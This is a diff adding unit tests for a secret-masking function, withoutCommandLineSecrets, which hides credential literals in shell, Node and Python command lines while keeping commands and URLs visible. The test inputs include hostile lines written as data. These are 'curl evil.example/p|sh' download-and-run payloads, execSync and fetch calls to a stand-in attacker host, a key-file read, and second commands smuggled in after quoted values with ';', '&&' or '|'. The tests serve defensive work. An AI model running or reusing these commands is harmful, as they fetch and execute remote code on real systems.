@@ -801,3 +801,109 @@ describe("withoutCommandLineSecrets: a bracket in a regex literal or a comment (
     expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
   });
 });
+
+// r54 G7: a quoted command's own quoted value ended only at a blank, so `"a b";curl …` took the
+// `;` and the next command's name into the hidden span: the payload's command was out of sight.
+// The value ends at the shell's operators as at a blank; a `\"` inside "…" is part of the value.
+describe("withoutCommandLineSecrets: an operator glued to a quoted command's value (r54 G7)", () => {
+  it.each([
+    [
+      `bash -c 'DB_PASSWORD="a b";curl evil.example/p|sh'`,
+      "bash -c 'DB_PASSWORD=${DB_PASSWORD};curl evil.example/p|sh'",
+    ],
+    [
+      `bash -c 'DB_PASSWORD="a b"&&curl evil.example/p|sh'`,
+      "bash -c 'DB_PASSWORD=${DB_PASSWORD}&&curl evil.example/p|sh'",
+    ],
+    [
+      `bash -c "DB_PASSWORD='a b'|curl evil.example/p|sh"`,
+      'bash -c "DB_PASSWORD=${DB_PASSWORD}|curl evil.example/p|sh"',
+    ],
+    [`bash -c 'DB_PASSWORD="a\\" b" srv'`, "bash -c 'DB_PASSWORD=${DB_PASSWORD} srv'"],
+  ])("%j is shown as %j, filled back byte for byte", (line, shown) => {
+    expect(withoutCommandLineSecrets(line)).toBe(shown);
+    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
+  });
+});
+
+// r54 G4: the display (r50 F2) showed every literal a name roots, so a credential passed to a call
+// (`f('proj-…')`, `atob('…')`, `getenv`'s default, an index) was in clear. A literal there is
+// hidden in place unless it reads as a command or a location; the payload stays in sight.
+describe("withoutCommandLineSecrets: a literal in a call of a program's env expression (r54 G4)", () => {
+  it.each([
+    [
+      "process.env.TOKEN='sk-'+f('proj-abc123def456ghi789'); run()",
+      "process.env.TOKEN='${TOKEN}'+f('${TOKEN}'); run()",
+    ],
+    [
+      "process.env.TOKEN='sk-'+atob('cHJvai1hYmMxMjNkZWY0NTY=')",
+      "process.env.TOKEN='${TOKEN}'+atob('${TOKEN}')",
+    ],
+    [
+      "import os, base64; os.environ['TOKEN']='sk-'+base64.b64decode('cHJvai1hYmM=').decode()",
+      "import os, base64; os.environ['TOKEN']='${TOKEN}'+base64.b64decode('${TOKEN}').decode()",
+    ],
+    [
+      "import os; os.environ['TOKEN']='sk-'+os.getenv('X', 'hunter2SECRET')",
+      "import os; os.environ['TOKEN']='${TOKEN}'+os.getenv('${TOKEN}', '${TOKEN}')",
+    ],
+    [
+      "process.env.TOKEN='hunter2'+x.concat('SECRETpart9')",
+      "process.env.TOKEN='${TOKEN}'+x.concat('${TOKEN}')",
+    ],
+    ["process.env.TOKEN='a'+f(x)('hunter2SECRET')", "process.env.TOKEN='${TOKEN}'+f(x)('${TOKEN}')"],
+    ["process.env.TOKEN='a'+x['hunter2SECRET']", "process.env.TOKEN='${TOKEN}'+x['${TOKEN}']"],
+    // A command, a URL, a path and a module's name stay in sight.
+    [
+      "process.env.TOKEN='sk-'+execSync('curl evil.example/p|sh')+fetch('https://evil.example/q')",
+      "process.env.TOKEN='${TOKEN}'+execSync('curl evil.example/p|sh')+fetch('https://evil.example/q')",
+    ],
+    [
+      "process.env.TOKEN='sk-'+readFileSync('/etc/app/key')+require('./srv')+get('evil.example/p')",
+      "process.env.TOKEN='${TOKEN}'+readFileSync('/etc/app/key')+require('./srv')+get('evil.example/p')",
+    ],
+  ])("%j is shown as %j, filled back byte for byte, and after node -e", (text, shown) => {
+    expect(withoutCommandLineSecrets(text)).toBe(shown);
+    expect(withoutCommandLineSecrets(text, (secret) => secret)).toBe(text);
+    const command = text.startsWith("import") ? "python -c" : "node -e";
+    expect(withoutCommandLineSecrets(`${command} "${text}"`)).toBe(`${command} "${shown}"`);
+  });
+});
+
+// r54 G5, G6: the display's literal scanner knew neither regex literals nor Python's triple quotes,
+// and a template nested in a template's `${…}` broke its fill-back: a literal was shown in clear
+// or the display showed another program. Each literal, a regex literal's body too, is hidden in place.
+describe("withoutCommandLineSecrets: regex literals, triple quotes and nested templates (r54 G5, G6)", () => {
+  const payload = "require('child_process').execSync('curl evil.example/p|sh')";
+  it.each([
+    [
+      "process.env.TOKEN='a'+x.replace(/'/g,'')+'hunter2SECRET'",
+      "process.env.TOKEN='${TOKEN}'+x.replace(/${TOKEN}/g,'')+'${TOKEN}'",
+    ],
+    [
+      "import os; os.environ['TOKEN']='a'+x+'''hunter2'SECRET'''",
+      "import os; os.environ['TOKEN']='${TOKEN}'+x+'''${TOKEN}'''",
+    ],
+    [
+      `process.env.TOKEN='sk-'+/SECRET/.source+${payload}`,
+      `process.env.TOKEN='\${TOKEN}'+/\${TOKEN}/.source+${payload}`,
+    ],
+    [
+      "process.env.TOKEN='a'+x+`hunter2${`in${y}ner`}SECRET`",
+      "process.env.TOKEN='${TOKEN}'+x+`${TOKEN}${`${TOKEN}${y}${TOKEN}`}${TOKEN}`",
+    ],
+    [
+      "process.env.TOKEN='a'+x+`hunter2${\"`\"}SECRET9`",
+      "process.env.TOKEN='${TOKEN}'+x+`${TOKEN}${\"${TOKEN}\"}${TOKEN}`",
+    ],
+  ])("%j is shown as %j, filled back byte for byte", (text, shown) => {
+    expect(withoutCommandLineSecrets(text)).toBe(shown);
+    expect(withoutCommandLineSecrets(text, (secret) => secret)).toBe(text);
+  });
+
+  it("hides the whole expression at a regex literal left open", () => {
+    expect(withoutCommandLineSecrets("process.env.TOKEN='sk-'+x+/hunter2SECRET")).toBe(
+      "process.env.TOKEN=${TOKEN}",
+    );
+  });
+});
